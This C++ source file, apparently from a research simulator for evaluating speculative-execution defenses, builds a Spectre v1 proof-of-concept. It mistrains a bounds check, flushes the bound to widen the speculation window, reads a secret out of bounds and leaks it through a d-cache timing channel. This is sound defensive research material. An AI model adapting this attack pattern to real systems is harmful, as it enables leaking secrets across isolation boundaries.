/**
 * @file
 * Spectre v1 with the d-cache covert channel — paper Listing 1.
 *
 * Victim:
 *     if (x < array_size)            // mis-trained to predict in-bounds
 *         t &= probe[array[x] * 512];
 *
 * The attacker trains the bounds check with valid x, flushes the
 * bounds variable so the branch resolves late (a wide speculation
 * window), then calls with x = kSecretDelta so the wrong path reads
 * the secret and leaves probe[secret * 512] in the cache.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

Program
SpectreV1Cache::build(std::uint8_t secret) const
{
    ProgramBuilder b("spectre-v1-cache");
    declareChannelSegments(b);
    b.zeroSegment(kVictimArray, 16);
    b.word(kBoundAddr, 16);
    b.segment(kSecretAddr, {secret});

    auto main_l = b.futureLabel();
    b.jmp(main_l);

    // --- victim(x in r10), link in r30 ----------------------------------
    auto victim = b.label();
    auto vend = b.futureLabel();
    b.movi(11, static_cast<std::int64_t>(kBoundAddr));
    b.load(12, 11, 0, 8);            // bound (flushed: resolves late)
    b.bgeu(10, 12, vend);            // trained not-taken; steered here
    b.movi(13, static_cast<std::int64_t>(kVictimArray));
    b.add(13, 13, 10);
    b.load(14, 13, 0, 1);            // (1) access: secret = array[x]
    emitCacheTransmit(b, 14);        // (2) transmit via the d-cache
    b.bind(vend);
    b.ret(30);

    // --- main --------------------------------------------------------------
    b.bind(main_l);
    // Warm the secret's cache line (the victim used it recently).
    b.movi(1, static_cast<std::int64_t>(kSecretAddr));
    b.prefetch(1, 0);
    emitProbeFlush(b);

    // Train the bounds check 32 times with x = 5, then attack once
    // with x = kSecretDelta on the 33rd iteration of the same loop so
    // the global history at the attack call matches training.
    b.movi(18, 0);
    auto train = b.label();
    b.movi(5, 32);
    b.cmpeq(3, 18, 5);                       // 1 on the attack iteration
    b.muli(4, 3, kSecretDelta - 5);
    b.addi(10, 4, 5);                        // x = 5 or kSecretDelta
    b.movi(1, static_cast<std::int64_t>(kBoundAddr));
    b.clflush(1, 0);                         // widen the window
    b.fence();
    b.call(30, victim);
    b.addi(18, 18, 1);
    b.movi(5, 33);
    b.blt(18, 5, train);
    b.fence();

    // (3) recover: time every probe line.
    emitCacheRecoverLoop(b);
    b.halt();
    return b.build();
}

} // namespace nda
